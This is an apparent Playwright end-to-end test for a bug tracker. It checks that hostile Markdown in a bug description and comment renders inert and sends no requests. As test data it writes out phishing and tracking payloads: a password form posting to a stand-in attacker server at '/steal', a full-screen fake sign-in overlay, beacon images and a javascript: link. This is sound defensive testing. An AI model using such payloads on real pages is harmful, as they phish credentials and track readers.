/** Hostile Markdown in a bug and a comment adds no forms, overlays, scripts or outbound requests
 * (issue 18, finding 6). */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";

import { api, expect, makeProject, makeUser, shot, signIn, test, tokenFor, type User } from "./support";

let reporter: User;
let reader: User;
// A loopback server stands in for the attacker's host and records whatever reaches it.
let trap: Server;
const hits: string[] = [];

test.beforeAll(async () => {
  reporter = await makeUser("developer", {
    email: "mal@example.com",
    password: "crimson-teapot-28",
    full_name: "Mal Ory",
  });
  reader = await makeUser("developer", {
    email: "rita@example.com",
    password: "sable-compass-39",
    full_name: "Rita Reader",
  });
  await makeProject({ key: "EVIL", name: "Inbox of trouble" }, [reporter, reader]);
  trap = createServer((request, response) => {
    hits.push(`${request.method ?? "?"} ${request.url ?? ""}`);
    response.writeHead(204).end();
  });
  await new Promise<void>((ready) => trap.listen(0, "127.0.0.1", ready));
});

test.afterAll(async () => {
  await new Promise((closed) => trap.close(closed));
});

test("hostile Markdown renders inert and sends nothing elsewhere", async ({ page, problems }) => {
  const evil = `http://127.0.0.1:${String((trap.address() as AddressInfo).port)}`;
  const hostile =
    "Please re-enter your password.\n\n" +
    `<form action="${evil}/steal"><input type="password" name="p"><button>Sign in</button></form>\n\n` +
    '<div style="position:fixed;inset:0;z-index:9999;background:white">Nimbus needs you to sign in again</div>\n\n' +
    `![x](${evil}/beacon.png)\n\n<img src="${evil}/img2.png">\n\n[click](javascript:alert(1))\n`;
  const token = await tokenFor(reporter);
  const bug = (await api("POST", "/projects/EVIL/bugs", {
    token,
    json: { title: "Hostile markdown", description: hostile, priority: "low", severity: "minor", labels: [] },
  })) as { key: string };
  await api("POST", `/bugs/${bug.key}/comments`, { token, json: { body: hostile } });

  await signIn(page, reader);
  await page.goto(`/bugs/${bug.key}`);
  await page.getByRole("heading", { level: 1, name: /Hostile markdown/ }).waitFor();
  await page.locator(".comment .markdown", { hasText: "re-enter your password" }).waitFor();
  await expect(
    page.locator(".markdown", { hasText: "re-enter your password" }),
    "description and comment",
  ).toHaveCount(2);
  // Give any image or beacon the time to (not) load.
  await page.waitForTimeout(1000);
  const found = await page.evaluate(() => {
    const boxes = [...document.querySelectorAll(".markdown")];
    const inside = (selector: string) =>
      boxes.reduce((n, box) => n + box.querySelectorAll(selector).length, 0);
    return {
      controls: inside("form, input, button, textarea, select"),
      styled: inside("[style]"),
      fixed: boxes
        .flatMap((box) => [...box.querySelectorAll("*")])
        .filter((el) => getComputedStyle(el).position === "fixed").length,
      scripted: [...document.querySelectorAll("a[href]")].filter((a) =>
        /^\s*javascript:/i.test(a.getAttribute("href") ?? ""),
      ).length,
      images: inside("img"),
      placeholders: boxes.flatMap((box) =>
        [...box.querySelectorAll("a")]
          .map((a) => a.textContent)
          .filter((text) => /^Image from 127\.0\.0\.1:\d+.*not loaded/.test(text)),
      ).length,
    };
  });
  await shot(page, "14-bug-hostile-markdown");
  expect(found.controls, "form controls from user Markdown").toBe(0);
  expect(found.styled, "style attributes kept from user Markdown").toBe(0);
  expect(found.fixed, "position:fixed elements from user Markdown").toBe(0);
  expect(found.scripted, "javascript: links on the page").toBe(0);
  expect(found.images, "remote <img> elements kept").toBe(0);
  // Two images in each of the description and the comment.
  expect(found.placeholders, "click-to-load image links").toBe(4);
  expect(hits, "requests sent elsewhere by opening the bug").toEqual([]);
  await page
    .locator(".markdown a", { hasText: /^Image from 127\.0\.0\.1:\d+: x/ })
    .first()
    .waitFor();
  // DOMPurify parses the user's HTML in an inert document that inherits this page's CSP, so
  // Chromium reports (and blocks) the hostile style attribute there before the allow-list drops
  // it; the checks above show none reached the page. Any other problem still counts.
  const others = problems.filter((p) => !p.includes("style-src-attr"));
  problems.splice(0, problems.length, ...others);
});
